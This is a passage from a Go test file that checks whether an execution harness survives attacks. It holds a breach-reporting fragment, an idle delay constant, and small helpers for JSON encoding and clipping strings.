		breach = append(breach, fmt.Sprintf("the next call got %+v", next[0]))
	}
	if g := env.Generation(box); g != gen {
		breach = append(breach, "the attack cost the harness (replaced)")
	}
	return strings.Join(breach, "; ")
}

// idleBeforeAttack is long enough for the harness to fork its spare
// children (a few milliseconds each) on a loaded machine.
const idleBeforeAttack = 500 * time.Millisecond

func raws(vs ...string) []json.RawMessage {
	out := make([]json.RawMessage, len(vs))
	for i, v := range vs {
		out[i] = json.RawMessage(v)
	}
	return out
}

func quoteAll(ss []string) []string {
	out := make([]string, len(ss))
	for i, s := range ss {
		out[i] = mustJSON(s)
	}
	return out
}

func mustJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

var space = regexp.MustCompile(`\s+`)

func clip(s string) string {
	s = space.ReplaceAllString(s, " ")
	if len(s) > 300 {
		return s[:300] + "..."
	}
	return s
}
